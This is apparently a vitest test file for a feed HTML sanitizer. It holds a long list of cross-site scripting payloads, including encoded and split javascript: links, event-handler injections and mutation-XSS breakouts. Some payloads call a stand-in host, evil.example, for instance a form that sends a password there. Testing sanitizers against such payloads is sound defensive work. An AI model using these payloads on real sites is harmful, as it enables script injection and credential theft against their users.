import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { cleanFeedHtml, cleanFeedText } from './clean-html';

const ALLOWED_TAGS = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'div', 'span', 'section', 'article', 'blockquote', 'pre', 'code',
  'em', 'strong', 'b', 'i', 'u', 's', 'sub', 'sup', 'small', 'mark', 'abbr', 'cite', 'q', 'ul', 'ol', 'li', 'dl', 'dt',
  'dd', 'a', 'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'figure', 'figcaption',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'target', 'colspan', 'rowspan', 'scope', 'start']);

/** Every element and attribute of some HTML, as a browser-like parser sees it. */
function elementsOf(html: string): { name: string; attribs: Record<string, string> }[] {
  const out: { name: string; attribs: Record<string, string> }[] = [];
  const parser = new Parser({ onopentag: (name, attribs) => out.push({ name, attribs }) }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return out;
}

function expectHarmless(html: string): void {
  expect(html).not.toMatch(/<\s*script/i);
  expect(html).not.toMatch(/javascript\s*:|vbscript\s*:|data\s*:/i);
  expect(html).not.toMatch(/style/i);
  expect(html).not.toMatch(/<\s*(img|iframe|object|embed|svg|math|base|link|meta|form|input|button|template|noscript|textarea|title|frame|applet|video|audio)\b/i);
  // Inside a tag: escaped text such as `&lt;img onerror=...&gt;` is harmless words.
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  for (const { name, attribs } of elementsOf(html)) {
    expect(ALLOWED_TAGS.has(name), `<${name}>`).toBe(true);
    for (const [attribute, value] of Object.entries(attribs)) {
      expect(ALLOWED_ATTRIBUTES.has(attribute), `${name}[${attribute}]`).toBe(true);
      if (attribute === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
    }
  }
}

function expectStable(input: string): void {
  const once = cleanFeedHtml(input);
  const twice = cleanFeedHtml(once.html);
  expect(twice.html).toBe(once.html);
  expect(twice.text).toBe(once.text);
}

const HOSTILE: [string, string][] = [
  ['a script', '<p>Before</p><script>alert(1)</script><p>After</p>'],
  ['an upper-case script with a source', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a script with a slash for a space', '<script/xss src="//evil.example/x.js"></script>'],
  ['a script split around another', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script inside angle brackets', '<<script>script>alert(1)<</script>/script>'],
  ['a script never closed', '<p>Hi<script>alert(1)'],
  ['a script closed with spaces', '<script>alert(1)</script   ><p>ok</p>'],
  ['an image with onerror', '<img src=x onerror=alert(1)>'],
  ['an image never closed', '<p>x</p><img src=x onerror=alert(1)'],
  ['an svg with onload', '<svg onload=alert(1)>'],
  ['a self-closing svg with onload', '<svg/onload=alert(1)><p>after</p>'],
  ['a script inside svg', '<svg><script>alert(1)</script></svg>'],
  ['an svg animate setting href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>'],
  ['an iframe with a javascript source', '<iframe src="javascript:alert(1)"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object with a data source', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
  ['an embed', '<embed src="javascript:alert(1)"><p>after</p>'],
  ['a style element', '<style>@import url(https://evil.example/track.css); p { color: red }</style><p>text</p>'],
  ['a javascript link', '<a href="javascript:alert(1)">click</a>'],
  ['a mixed-case javascript link with spaces', '<a href="  JaVaScRiPt:alert(1)">click</a>'],
  ['an entity-encoded javascript link', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ['a hex-entity javascript link without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>'],
  ['a tab-split javascript link', '<a href="java&#x09;script:alert(1)">click</a>'],
  ['a newline-split javascript link', '<a href="java&#x0A;script:alert(1)">click</a>'],
  ['a javascript link with a named colon', '<a href="javascript&colon;alert(1)">click</a>'],
  ['a javascript link led by a control character', '<a href="&#x01;javascript:alert(1)">click</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">click</a>'],
  ['a base64 data link', '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['a vbscript link', '<a href="vbscript:msgbox(1)">click</a>'],
  ['a form', '<form action="https://evil.example/steal"><input name=password><button formaction="javascript:alert(1)">Go</button></form>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a base element', '<base href="https://evil.example/"><a href="https://ok.example/">ok</a>'],
  ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['event handlers on allowed tags', '<p onclick="alert(1)" onmouseover=alert(1) ONFOCUS=alert(1)>text</p><td onmouseover=alert(1)>cell</td>'],
  ['an event handler on a link', '<a href="https://ok.example/" onclick="alert(1)">ok</a>'],
  ['a style attribute with a javascript url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['a style attribute that covers the page', '<div style="position:fixed;inset:0;z-index:9999">x</div>'],
  ['a math table breaking out through mglyph and style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['a math action with a javascript href', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>'],
  ['a template hiding a script', '<template><script>alert(1)</script></template><p>after</p>'],
  ['a template hiding an image', '<template><img src=x onerror=alert(1)></template>'],
  ['a noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a title breakout', '<title><img src=x onerror=alert(1)></title>'],
  ['a textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
  ['unclosed tags around a handler', '<p><b><i>unclosed <a href="https://ok.example/">link <div onclick=alert(1)'],
  ['an attribute never closed', '<p title="x>alert(1)<script>alert(1)</script>'],
  ['a script hidden in a comment', '<!--<script>alert(1)</script>-->'],
  ['an empty comment followed by a script', '<!--><script>alert(1)</script>-->'],
  ['a comment closed with --!>', '<!-- --!><script>alert(1)</script> -->'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['a CDATA section', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a CDATA section in svg', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['a processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'],
  ['an xmp element', '<xmp><img src=x onerror=alert(1)></xmp><p>after</p>'],
  ['a video with a poster and handlers', '<video poster=javascript:alert(1) onerror=alert(1)><source src=x onerror=alert(1)></video>'],
  ['a frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  ['a select with a handler', '<select onfocus=alert(1) autofocus><option>x</option></select>'],
];

describe('cleanFeedHtml: hostile markup', () => {
  it.each(HOSTILE)('removes %s', (_, input) => {
    const { html } = cleanFeedHtml(input);
    expectHarmless(html);
  });

  it.each(HOSTILE)('is stable on the cleaned %s', (_, input) => {
    expectStable(input);
    expectHarmless(cleanFeedHtml(cleanFeedHtml(input).html).html);
  });

  it('keeps the words around what it removes', () => {
    expect(cleanFeedHtml('<p>Before</p><script>alert(1)</script><p>After</p>')).toEqual({
      html: '<p>Before</p><p>After</p>',
      text: 'Before\nAfter',
    });
    expect(cleanFeedHtml('<p onclick="alert(1)" style="color:red">text</p>').html).toBe('<p>text</p>');
    expect(cleanFeedHtml('<a href="javascript:alert(1)">click</a>').html).toBe('<a rel="noopener noreferrer" target="_blank">click</a>');
  });

  it('drops the content of scripts, styles, frames, objects and forms from the text too', () => {
    const { text } = cleanFeedHtml(
      '<p>Kept</p><script>var secret = 1;</script><style>p{}</style><iframe>frame text</iframe><object>object text</object><form><button>Go</button></form><template>template text</template>',
    );
    expect(text).toBe('Kept');
  });

  it('escapes text that looks like markup instead of dropping it', () => {
    expect(cleanFeedHtml('<p>Use &lt;script&gt; tags &amp; see</p>')).toEqual({
      html: '<p>Use &lt;script&gt; tags &amp; see</p>',
      text: 'Use <script> tags & see',
    });
  });

  it('escapes quotes in kept attribute values so they cannot open a new attribute', () => {
    const { html } = cleanFeedHtml(`<abbr title='NIS" onmouseover="alert(1)'>NIS</abbr>`);
    expect(elementsOf(html)).toEqual([{ name: 'abbr', attribs: { title: 'NIS" onmouseover="alert(1)' } }]);
    expect(html).not.toContain('" onmouseover');
  });
});

describe('cleanFeedHtml: allowed markup', () => {
  it.each([
    ['headings and paragraphs', '<h1>Guidelines</h1><h2>Scope</h2><p>Text with <em>emphasis</em>, <strong>strength</strong> and <code>code</code>.</p>'],
    ['lists', '<ul><li>One</li><li>Two<ol start="3"><li>Three</li></ol></li></ul><dl><dt>SPOC</dt><dd>Single point of contact</dd></dl>'],
    [
      'tables with spans',
      '<table><caption>Thresholds</caption><thead><tr><th colspan="2" scope="col">Sector</th></tr></thead><tbody><tr><td rowspan="2">Energy</td><td>1 h</td></tr></tbody><tfoot><tr><td colspan="2">Source: ENISA</td></tr></tfoot></table>',
    ],
    ['quotes and figures', '<blockquote><p>Quoted</p></blockquote><figure><figcaption>Figure 1</figcaption></figure><q>q</q><cite>c</cite>'],
    ['inline marks', '<p>H<sub>2</sub>O, x<sup>2</sup>, <mark>marked</mark>, <s>struck</s>, <u>under</u>, <small>small</small>, <abbr title="Computer Security Incident Response Team">CSIRT</abbr></p>'],
    ['rules and breaks', '<p>line<br>next</p><hr><pre>  pre  text  </pre>'],
  ])('keeps %s as they are', (_, input) => {
    expect(cleanFeedHtml(input).html).toBe(input);
    expectStable(input);
  });

  it.each([
    ['https://nis-cg.example.eu/papers/cg-2026-01', 'https://nis-cg.example.eu/papers/cg-2026-01'],
    ['http://nis-cg.example.eu', 'http://nis-cg.example.eu/'],
    ['mailto:cert-fr@ssi.gouv.example', 'mailto:cert-fr@ssi.gouv.example'],
    ['  https://nis-cg.example.eu/a b  ', 'https://nis-cg.example.eu/a%20b'],
  ])('keeps a link to %j, opened outside the app with no referrer', (href, kept) => {
    const { html } = cleanFeedHtml(`<p><a href="${href}" target="_self" rel="opener" title="Paper">the paper</a></p>`);
    expect(html).toBe(`<p><a href="${kept}" title="Paper" rel="noopener noreferrer" target="_blank">the paper</a></p>`);
    expectStable(html);
  });

  it('escapes an ampersand in a kept link, and keeps it stable', () => {
    const { html } = cleanFeedHtml('<a href="https://nis-cg.example.eu/search?q=5g&amp;lang=fr">search</a>');
    expect(elementsOf(html)[0]!.attribs.href).toBe('https://nis-cg.example.eu/search?q=5g&lang=fr');
    expectStable(html);
  });

  it('drops a relative link, keeping its words', () => {
    expect(cleanFeedHtml('<a href="/papers/x">x</a>').html).toBe('<a rel="noopener noreferrer" target="_blank">x</a>');
  });

  it('keeps only whole-number spans', () => {
    expect(cleanFeedHtml('<table><tr><td colspan="2 onclick=alert(1)">a</td><td colspan="99999">b</td><td rowspan=" 3 ">c</td></tr></table>').html).toBe(
      '<table><tr><td>a</td><td>b</td><td rowspan="3">c</td></tr></table>',
    );
  });

  it('drops unknown elements and attributes but keeps their words', () => {
    expect(cleanFeedHtml('<center><font color="red">Red</font></center><p class="lead" id="x" dir="rtl" lang="fr">Para</p>').html).toBe(
      'Red<p>Para</p>',
    );
  });

  it('closes what the feed left open', () => {
    expect(cleanFeedHtml('<ul><li><b>one').html).toBe('<ul><li><b>one</b></li></ul>');
  });
});

describe('cleanFeedHtml: cleaning clean HTML changes nothing', () => {
  // Word and older CMSs wrap text in elements the cleaner drops (<font>, <o:p>). The tag that
  // follows may close the one before it (a new <li> ends the open <li>): the output must say so,
  // or the renderer's second cleaning would build another tree.
  it.each([
    ['list items', '<ul><li>First<font color="red"><li>Second</font></ul>', '<ul><li>First</li><li>Second</li></ul>'],
    ['paragraphs', '<p>Intro <font face="Arial">text<p>Next</font>', '<p>Intro text</p><p>Next</p>'],
    ['table cells', '<table><tr><td><font>a<td>b</font></tr></table>', '<table><tr><td>a</td><td>b</td></tr></table>'],
    ['definition terms', '<dl><dt>SPOC<o:p><dd>Single point of contact</o:p></dl>', '<dl><dt>SPOC</dt><dd>Single point of contact</dd></dl>'],
  ])('closes %s that a dropped element kept apart', (_, input, expected) => {
    expect(cleanFeedHtml(input).html).toBe(expected);
    expectStable(input);
  });

  it('holds for any mix of allowed, unknown and hostile tags', () => {
    const tags = ['p', 'div', 'a', 'b', 'span', 'font', 'table', 'tr', 'td', 'th', 'tbody', 'li', 'ul', 'dl', 'dt', 'dd', 'h2', 'pre', 'script', 'style', 'svg', 'math', 'img', 'iframe', 'template', 'select', 'option', 'textarea', 'form', 'noscript', 'xmp'];
    const piece = fc.oneof(
      fc.constantFrom(...tags).map((t) => `<${t}>`),
      fc.constantFrom(...tags).map((t) => `</${t}>`),
      fc.constantFrom(
        '<a href="https://x.example/?a=1&b=2">', '<a href="javascript:alert(1)">', '<td colspan="2">', '<abbr title="a&quot;b">',
        '<img src=x onerror=alert(1)>', '<p/>', '<svg/>', '<br/>', '<!--', '-->', '<![CDATA[', ']]>', '&amp;', '&lt;', '<', '>', '"', ' ', '\n', 'word', 'réseau',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        const input = parts.join('');
        const once = cleanFeedHtml(input);
        expect(cleanFeedHtml(once.html)).toEqual(once);
        expect(once.html).not.toMatch(/<\s*(script|style|img|iframe|svg|math|template|form)\b/i);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('cleanFeedHtml: text', () => {
  it('makes a line of each block and folds white space', () => {
    const { text } = cleanFeedHtml(
      '<h1>Guidelines</h1>\n<p>First   para\n   graph.</p><ul><li>One</li><li>Two</li></ul><p>End<br>line</p><div>  </div><table><tr><td>A</td><td>B</td></tr></table>',
    );
    expect(text).toBe('Guidelines\nFirst para graph.\nOne\nTwo\nEnd\nline\nA\nB');
  });

  it('does not break lines at inline elements', () => {
    expect(cleanFeedHtml('<p>Incident <b>notification</b> <a href="https://x.example/">thresholds</a>, <em>revised</em>.</p>').text).toBe(
      'Incident notification thresholds, revised.',
    );
  });

  it('decodes entities', () => {
    expect(cleanFeedHtml('<p>R&amp;D &eacute;quipe &#8364;5&nbsp;000 &quot;draft&quot; &lt;b&gt;</p>').text).toBe('R&D équipe €5 000 "draft" <b>');
  });

  it.each([
    ['Greek', 'Η Ομάδα Συνεργασίας για την ασφάλεια δικτύων και πληροφοριών'],
    ['Bulgarian', 'Група за сътрудничество в областта на мрежовата и информационната сигурност'],
    ['Arabic', 'مجموعة التعاون بشأن أمن الشبكات'],
    ['Hebrew with direction marks', 'קבוצת שיתוף\u200F הפעולה'],
    ['French with accents and ligatures', 'Sécurité des réseaux — « œuvre »'],
  ])('passes %s through unchanged', (_, words) => {
    expect(cleanFeedHtml(`<p>${words}</p>`)).toEqual({ html: `<p>${words}</p>`, text: words });
    expect(cleanFeedText(words)).toBe(words);
  });

  // The cleaner skips folding and escaping for text that needs neither; whatever the mix of
  // spaces, a lone tab, a no-break space or a line separator, it must fold as a plain
  // `\s+ → space` would, and escape what it must.
  it('folds any white space in a paragraph to single spaces, and escapes its text', () => {
    const space = fc.constantFrom(' ', '  ', '\t', '\n', '\r\n', '\u00a0', '&nbsp;', '&#9;', '\u2028', '\u3000', '\ufeff', ' \t ');
    const word = fc.constantFrom('word', 'R&amp;D', '&lt;b&gt;', 'a>b', 'Sécurité', '5', '&amp;amp;');
    fc.assert(
      fc.property(fc.array(fc.oneof(space, word), { maxLength: 20 }), (parts) => {
        const body = parts.join('');
        const plain = body.replace(/&nbsp;/g, '\u00a0').replace(/&#9;/g, '\t').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
        const text = plain.replace(/\s+/g, ' ').trim();
        const out = cleanFeedHtml(`<p>${body}</p>`);
        expect(out.text).toBe(text);
        expect(out.html).toBe(`<p>${plain.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')}</p>`);
      }),
      { numRuns: 2000 },
    );
  });

  it('gives no text for empty or markup-only input', () => {
    expect(cleanFeedHtml('')).toEqual({ html: '', text: '' });
    expect(cleanFeedHtml('<p> </p><br><hr>').text).toBe('');
  });
});

describe('cleanFeedText', () => {
  it('folds white space within lines and drops empty lines', () => {
    expect(cleanFeedText('  First   para\t\tgraph  \n\n   \r\nSecond line\r\n')).toBe('First para graph\nSecond line');
  });

  it('folds the same way as text taken from HTML', () => {
    const lines = ['Guidelines on incident  notification', '  Scope:\tessential entities ', 'Thresholds &  deadlines'];
    const fromText = cleanFeedText(lines.join('\n\n'));
    const fromHtml = cleanFeedHtml(lines.map((l) => `<p>${l.replace('&', '&amp;')}</p>`).join('\n')).text;
    expect(fromText).toBe(fromHtml);
    expect(fromText).toBe('Guidelines on incident notification\nScope: essential entities\nThresholds & deadlines');
  });

  it('keeps text that looks like markup as it is: it is text', () => {
    expect(cleanFeedText('<script>alert(1)</script> &amp;')).toBe('<script>alert(1)</script> &amp;');
  });
});
